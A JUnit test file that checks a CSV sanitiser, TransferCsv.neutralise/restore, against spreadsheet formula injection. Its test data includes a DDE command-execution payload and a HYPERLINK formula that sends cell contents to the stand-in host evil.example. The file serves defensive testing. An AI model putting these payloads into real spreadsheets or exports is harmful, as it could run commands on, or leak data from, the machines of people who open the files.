package org.transferwatch.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TransferCsvTest {

    @ParameterizedTest
    @ValueSource(strings = { "=SUM(A1:A9)", "+31 20 555", "-2+3", "@cmd", "\tindented", "\rreturn", "\0nul",
            " =1+1", "  @SUM(1)", "\n=cmd|' /C calc'!A0", "\u00a0=1", "\u3000=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
            "\uff20SUM(1)", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "'=1+1", "-" })
    void a_cell_starting_with_a_formula_trigger_gets_a_leading_quote(String value) {
        assertThat(TransferCsv.neutralise(value)).isEqualTo("'" + value);
        assertThat(TransferCsv.restore(TransferCsv.neutralise(value))).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = { "Artillery shells", "1000000.00", "2022-10-01", "B2", "", "North Korea → Russia", "a=b",
            "'quoted'", "x-ray" })
    void normal_text_is_left_untouched(String value) {
        assertThat(TransferCsv.neutralise(value)).isEqualTo(value);
        assertThat(TransferCsv.restore(value)).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = { "'=x", "''+1", "'", "''" })
    void values_that_already_start_with_quotes_survive_the_round_trip(String value) {
        assertThat(TransferCsv.restore(TransferCsv.neutralise(value))).isEqualTo(value);
    }

}
